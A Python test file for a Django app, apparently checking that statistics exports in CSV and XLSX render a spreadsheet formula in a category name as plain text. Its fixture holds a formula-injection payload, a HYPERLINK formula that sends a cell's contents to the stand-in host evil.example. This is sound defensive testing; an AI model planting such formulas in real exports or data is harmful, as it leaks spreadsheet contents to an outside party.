"""Care's statistics exports go through core's tabular writer: a name that a spreadsheet
would run as a formula arrives as text."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from . import factories as f

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik")'


@pytest.fixture
def formula_report(agency, verifier, officer):
    category = f.make_category(agency=agency, code="rumus", name=FORMULA)
    return f.make_complaint(category, status="closed", verifier=verifier, officer=officer)


def test_a_formula_in_a_csv_export_is_text(client, formula_report, supervisor):
    client.force_login(supervisor)
    params = {"from": "2025-01", "to": "2025-03"}
    response = client.get(reverse("care:staff-stats-export", args=["csv"]), params)
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    categories = [row[1] for row in rows[1:]]
    assert "'" + FORMULA in categories
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_a_formula_in_an_xlsx_export_is_text(client, formula_report, supervisor):
    client.force_login(supervisor)
    params = {"from": "2025-01", "to": "2025-03"}
    response = client.get(reverse("care:staff-stats-export", args=["xlsx"]), params)
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows(min_row=3) for c in row if c.value == FORMULA]
    assert len(cells) == 1
    assert cells[0].data_type == "s"
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
